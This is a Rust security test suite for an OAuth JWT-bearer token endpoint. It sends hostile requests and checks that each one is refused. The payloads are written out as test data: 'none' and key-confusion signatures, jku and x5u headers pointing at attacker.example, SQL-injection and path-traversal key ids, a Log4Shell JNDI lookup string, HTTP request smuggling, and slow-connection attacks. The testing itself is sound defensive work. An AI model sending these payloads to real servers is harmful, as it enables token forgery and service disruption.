//! What somebody with bad intentions sends to the token endpoint, over real HTTP: each attempt has its refusal, and the issuer goes on.

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use skybru_issuer::http::Limits;
use skybru_protocol::base64url;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use crate::harness::{Answer, NOW, TestIssuer};
use crate::wire::{self, Served, read, request};

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const GRANT: &str = "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer";

struct Target {
    t: TestIssuer,
    server: Served,
}

impl Target {
    async fn start() -> Self {
        let t = TestIssuer::start().await;
        let server = wire::start(t.maskinporten.clone(), Limits::default()).await;
        Self { t, server }
    }

    async fn post(&self, body: &str) -> Answer {
        request(self.server.address, "POST", "/token", &[FORM], body).await.0
    }

    /// Presents an assertion; returns status and MP code.
    async fn present(&self, assertion: &str) -> (u16, String) {
        let answer = self.post(&format!("{GRANT}&assertion={assertion}")).await;
        let (status, code, _) = answer.refusal();
        (status, if status == 200 { "granted".to_owned() } else { code.to_owned() })
    }

    /// Signs with the client's key under any header.
    fn signed(&self, header: &Value, claims: &Value) -> String {
        self.t.key.sign_with_header(header, claims).unwrap()
    }

    fn header(&self) -> Value {
        json!({"alg": "RS256", "kid": self.t.key.kid()})
    }

    /// A good assertion passes still: nothing before has harmed the issuer.
    async fn goes_on(&self, jti: &str) {
        let mut claims = self.t.claims();
        claims["jti"] = json!(jti);
        assert_eq!(self.present(&self.signed(&self.header(), &claims)).await, (200, "granted".to_owned()));
    }
}

fn part(bytes: &[u8]) -> String {
    base64url::encode(bytes)
}

/// HMAC-SHA256, so that a real symmetric signature can be tried.
fn hmac(key: &[u8], message: &[u8]) -> Vec<u8> {
    let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, key);
    aws_lc_rs::hmac::sign(&key, message).as_ref().to_vec()
}

#[tokio::test]
async fn algorithms_cannot_be_chosen_by_the_attacker() {
    let target = Target::start().await;
    let claims = part(target.t.claims().to_string().as_bytes());
    for alg in ["none", "None", "NONE", "nOnE", ""] {
        let header = part(json!({"alg": alg, "kid": target.t.key.kid()}).to_string().as_bytes());
        for signature in ["", "AAAA"] {
            assert_eq!(target.present(&format!("{header}.{claims}.{signature}")).await, (400, "MP-124".into()), "alg {alg:?}");
        }
    }
    // The public key as the secret of an HMAC: as PEM, as JWK, as its bare modulus.
    let jwk = target.t.key.public_jwk();
    let modulus = base64url::decode(jwk.n.as_ref().unwrap()).unwrap();
    for secret in [serde_json::to_vec(&jwk).unwrap(), modulus, jwk.n.clone().unwrap().into_bytes(), Vec::new()] {
        let header = part(json!({"alg": "HS256", "kid": target.t.key.kid()}).to_string().as_bytes());
        let input = format!("{header}.{claims}");
        let signature = part(&hmac(&secret, input.as_bytes()));
        assert_eq!(target.present(&format!("{input}.{signature}")).await, (400, "MP-124".into()), "HS256 with the public key");
    }
    for alg in ["PS256", "ES256", "EdDSA", "RS1", "HS512", "rs256", "RS256 "] {
        let assertion = target.signed(&json!({"alg": alg, "kid": target.t.key.kid()}), &target.t.claims());
        assert_eq!(target.present(&assertion).await, (400, "MP-124".into()), "{alg}");
    }
    target.goes_on("after").await;
}

#[tokio::test]
async fn keys_in_the_token_are_not_used() {
    let target = Target::start().await;
    let attacker =
        skybru_protocol::jose::SigningKey::generate(skybru_protocol::jose::RsaSize::Bits2048, "RS256".parse().unwrap()).unwrap();
    for header in [
        json!({"alg": "RS256", "kid": target.t.key.kid(), "jwk": attacker.public_jwk()}),
        json!({"alg": "RS256", "kid": target.t.key.kid(), "jku": "https://attacker.example/jwks"}),
        json!({"alg": "RS256", "kid": target.t.key.kid(), "x5u": "https://attacker.example/cert.pem"}),
        json!({"alg": "RS256", "kid": target.t.key.kid(), "x5c": ["MIIB"], "x5t#S256": "x"}),
    ] {
        let assertion = attacker.sign_with_header(&header, &target.t.claims()).unwrap();
        assert_eq!(target.present(&assertion).await, (400, "MP-124".into()), "{header}");
    }
    let embedded = json!({"alg": "RS256", "jwk": attacker.public_jwk()});
    let assertion = attacker.sign_with_header(&embedded, &target.t.claims()).unwrap();
    assert_eq!(target.present(&assertion).await, (400, "MP-120".into()), "a key of its own instead of a name");
    target.goes_on("after").await;
}

#[tokio::test]
async fn key_ids_are_names_and_nothing_else() {
    let target = Target::start().await;
    for kid in [
        "../../../../dev/null",
        "/etc/passwd",
        "' OR '1'='1",
        "x'; DROP TABLE client_key; --",
        "key\u{0}",
        "\u{0}",
        "кey",
        "\u{202e}yek",
        "${jndi:ldap://attacker.example/a}",
        "",
        "https://attacker.example/key",
    ] {
        let assertion = target.signed(&json!({"alg": "RS256", "kid": kid}), &target.t.claims());
        assert_eq!(target.present(&assertion).await, (400, "MP-120".into()), "{kid:?}");
    }
    let own = target.t.key.kid().as_str();
    for kid in [format!("{own} "), format!("{own}\u{0}"), own.to_uppercase() + "x", own[..own.len() - 1].to_owned()] {
        let assertion = target.signed(&json!({"alg": "RS256", "kid": kid}), &target.t.claims());
        assert_eq!(target.present(&assertion).await, (400, "MP-120".into()), "{kid:?}");
    }
    for kid in [json!(1), json!(["a"]), json!({"a": 1}), json!(true)] {
        let assertion = target.signed(&json!({"alg": "RS256", "kid": kid}), &target.t.claims());
        assert_eq!(target.present(&assertion).await, (400, "MP-011".into()), "{kid}");
    }
    target.goes_on("after").await;
}

#[tokio::test]
async fn critical_extensions_and_repeated_members_are_refused() {
    let target = Target::start().await;
    for crit in [json!(["exp"]), json!([]), json!(["b64"]), json!("x")] {
        let assertion = target.signed(&json!({"alg": "RS256", "kid": target.t.key.kid(), "crit": crit}), &target.t.claims());
        assert_eq!(target.present(&assertion).await, (400, "MP-124".into()), "crit {crit}");
    }
    let kid = target.t.key.kid();
    let good = target.t.claims().to_string();
    let twice = |json: &str, member: &str| format!("{{{member},{}", &json[1..]);
    let header = format!("{{\"alg\":\"RS256\",\"kid\":\"{kid}\"}}");
    for (header, claims) in [
        (twice(&header, "\"alg\":\"none\""), good.clone()),
        (twice(&header, "\"kid\":\"other\""), good.clone()),
        (header.clone(), twice(&good, "\"iss\":\"other\"")),
        (header.clone(), twice(&good, "\"scope\":\"a:b\"")),
        (header.clone(), twice(&good, "\"x\":{\"y\":1,\"y\":2}")),
    ] {
        // The signature does not matter: what is ambiguous is not even verified.
        let assertion = format!("{}.{}.AAAA", part(header.as_bytes()), part(claims.as_bytes()));
        assert_eq!(target.present(&assertion).await, (400, "MP-011".into()), "{header} {claims}");
    }
    target.goes_on("after").await;
}

#[tokio::test]
async fn numbers_depth_and_types_that_break_parsers_are_refused() {
    let target = Target::start().await;
    let header = part(target.header().to_string().as_bytes());
    let iss = &target.t.client_id;
    let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
    for claims in [
        format!("{{\"iss\":\"{iss}\",\"aud\":\"https://test.maskinporten.no/\",\"iat\":{},\"exp\":{NOW}}}", "9".repeat(400)),
        format!("{{\"iss\":\"{iss}\",\"aud\":\"https://test.maskinporten.no/\",\"iat\":1e999,\"exp\":1e999}}"),
        format!("{{\"iss\":\"{iss}\",\"aud\":\"https://test.maskinporten.no/\",\"iat\":-1,\"exp\":9223372036854775807}}"),
        format!("{{\"iss\":\"{iss}\",\"aud\":\"https://test.maskinporten.no/\",\"iat\":NaN,\"exp\":Infinity}}"),
        format!("{{\"iss\":\"{iss}\",\"aud\":{deep},\"iat\":{NOW},\"exp\":{NOW}}}"),
        format!("{{\"iss\":\"{iss}\",\"aud\":\"https://test.maskinporten.no/\",\"iat\":{NOW},\"exp\":{NOW},\"x\":{deep}}}"),
        "[]".to_owned(),
        "null".to_owned(),
        String::new(),
        "\u{feff}{}".to_owned(),
    ] {
        let shown: String = claims.chars().take(80).collect();
        assert_eq!(
            target.present(&format!("{header}.{}.AAAA", part(claims.as_bytes()))).await,
            (400, "MP-011".into()),
            "{shown}"
        );
    }
    for raw in [b"{\"iss\":\"\xff\xfe\"}".as_slice(), b"\x00\x01", b"{\"a\":\"\xed\xa0\x80\"}"] {
        assert_eq!(target.present(&format!("{header}.{}.AAAA", part(raw))).await, (400, "MP-011".into()));
    }
    for wrong in ["", ".", "..", "...", "a.b.c", "a.b.c.d.e", "%00.%00.%00", "e30.e30.", "=.=.=", "eyJhbGciOiJSUzI1NiJ9.e30+.AA"]
    {
        let code = target.present(wrong).await;
        assert!(code.0 == 400 && (code.1 == "MP-011" || wrong.is_empty()), "{wrong:?}: {code:?}");
    }
    target.goes_on("after").await;
}

#[tokio::test]
async fn forms_that_say_two_things_are_refused() {
    let target = Target::start().await;
    let good = target.signed(&target.header(), &target.t.claims());
    for body in [
        format!("{GRANT}&assertion={good}&assertion={good}"),
        format!("{GRANT}&{GRANT}&assertion={good}"),
        format!("{GRANT}&assertion={good}&grant_type=client_credentials"),
    ] {
        let answer = target.post(&body).await;
        assert_eq!((answer.0, answer.1["error"].as_str()), (400, Some("invalid_request")));
    }
    let split = request(
        target.server.address,
        "POST",
        &format!("/token?assertion={good}"),
        &[FORM],
        &format!("{GRANT}&assertion={good}"),
    )
    .await
    .0;
    assert_eq!((split.0, split.1["error"].as_str()), (400, Some("invalid_request")), "one in the query, one in the body");
    let many = format!("{GRANT}&{}assertion=x", "a=b&".repeat(7000));
    assert_eq!(target.post(&many).await.0, 400);
    target.goes_on("after").await;
}

#[tokio::test]
async fn large_requests_are_refused_early() {
    let target = Target::start().await;
    let started = Instant::now();
    let megabyte = "A".repeat(1024 * 1024);
    let answer = target.post(&format!("{GRANT}&assertion={megabyte}")).await;
    assert_eq!((answer.0, answer.1["error"].as_str()), (400, Some("invalid_request")));
    let long = "a".repeat(20_000);
    let assertion = target.signed(&json!({"alg": "RS256", "kid": long}), &target.t.claims());
    assert_eq!(target.present(&assertion).await.0, 400);

    let headers = "X-Many: headers\r\n".repeat(5000);
    let request = format!("POST /token HTTP/1.1\r\nHost: a\r\n{headers}Content-Length: 0\r\n\r\n");
    let (status, _, _) = wire::send(target.server.address, request.as_bytes()).await.unwrap();
    assert_eq!(status, 431, "too many headers");
    let request = format!("POST /token HTTP/1.1\r\nHost: a\r\nX-Long: {}\r\nContent-Length: 0\r\n\r\n", "a".repeat(2_000_000));
    assert!(
        wire::send(target.server.address, request.as_bytes()).await.is_none_or(|(status, _, _)| status == 431),
        "a header of 2 MB"
    );
    let request = format!("POST /{} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n", "a".repeat(100_000));
    assert!(
        wire::send(target.server.address, request.as_bytes())
            .await
            .is_none_or(|(status, _, _)| [404, 414, 431].contains(&status))
    );
    let lying = b"POST /token HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\n";
    assert!(wire::send(target.server.address, lying).await.is_none_or(|(status, _, _)| status == 400));
    let both = b"POST /token HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    assert!(
        wire::send(target.server.address, both)
            .await
            .is_none_or(|(status, _, body)| status == 400 && !body.windows(2).any(|w| w == b"UP")),
        "a request smuggled in the body of another"
    );
    assert!(started.elapsed() < Duration::from_secs(20), "all of it takes {:?}", started.elapsed());
    target.goes_on("after").await;
}

/// Slow callers: headers that never end, bodies that never come. Their connections are closed, and others are served meanwhile.
#[tokio::test]
async fn slow_callers_are_hung_up_on() {
    let t = TestIssuer::start().await;
    let limits = Limits { header_timeout: Duration::from_millis(300), ..Limits::default() };
    let server = wire::start(t.maskinporten.clone(), limits).await;
    let target = Target { t, server };
    let mut slow = Vec::new();
    for _ in 0..20 {
        let mut stream = TcpStream::connect(target.server.address).await.unwrap();
        stream.write_all(b"POST /token HTTP/1.1\r\nHost: a\r\nX-Slow: ").await.unwrap();
        slow.push(stream);
    }
    target.goes_on("meanwhile").await;
    let started = Instant::now();
    for mut stream in slow {
        let answer = read(&mut stream).await;
        assert!(answer.is_none_or(|(status, _, _)| status == 408), "closed, with or without a word");
    }
    assert!(started.elapsed() < Duration::from_secs(10));
    target.goes_on("after").await;
}

#[tokio::test]
async fn a_body_that_never_comes_is_given_up() {
    let target = Target::start().await;
    let mut stream = TcpStream::connect(target.server.address).await.unwrap();
    let head = format!(
        "POST /token HTTP/1.1\r\nHost: a\r\n{}: {}\r\nContent-Length: 1000\r\nConnection: close\r\n\r\ngrant",
        FORM.0, FORM.1
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let started = Instant::now();
    let (status, _, _) = read(&mut stream).await.unwrap();
    assert_eq!(status, 408);
    assert!(started.elapsed() < Duration::from_secs(25), "{:?}", started.elapsed());
}

/// Unicode that looks like something else, in every text that is compared.
#[tokio::test]
async fn look_alikes_are_other_texts() {
    let target = Target::start().await;
    for (member, value, code) in [
        ("aud", json!("https://test.maskinporten.no/\u{200b}"), "MP-110"),
        ("aud", json!("https://test.maskınporten.no/"), "MP-110"),
        ("aud", json!("HTTPS://test.maskinporten.no/"), "MP-110"),
        ("scope", json!("entur:skyporten.dem\u{43e}"), "MP-011"),
        ("scope", json!("entur:skyporten.demo\u{0}"), "MP-011"),
        ("scope", json!("ENTUR:skyporten.demo"), "MP-200"),
        ("scope", json!("entur:skyporten.demo,entur:other"), "MP-200"),
        ("resource", json!("https://a.no/\u{202e}"), "MP-011"),
        ("consumer_org", json!("９91825827"), "MP-011"),
        ("pid", json!("1085019940５"), "MP-011"),
    ] {
        let mut claims = target.t.claims();
        claims[member] = value.clone();
        assert_eq!(target.present(&target.signed(&target.header(), &claims)).await.1, code, "{member} {value}");
    }
    let mut claims = target.t.claims();
    claims["iss"] = json!(format!("{}\u{0}", target.t.client_id));
    assert_eq!(target.present(&target.signed(&target.header(), &claims)).await, (400, "MP-011".into()));
    target.goes_on("after").await;
}
